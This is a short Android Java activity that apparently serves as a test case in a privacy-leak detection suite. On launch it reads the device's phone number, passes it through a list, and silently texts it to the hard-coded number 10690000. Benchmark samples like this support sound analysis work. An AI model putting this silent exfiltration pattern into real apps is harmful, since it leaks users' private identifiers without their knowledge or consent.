package cn.privlens.suite.removed_other_object;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.List;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
        List<String> lines = new ArrayList<>();
        lines.add(id);
        lines.add("end");
        lines.remove("end");
        for (String line : lines) {
            SmsManager.getDefault().sendTextMessage("10690000", null, line, null, null);
        }
    }
}
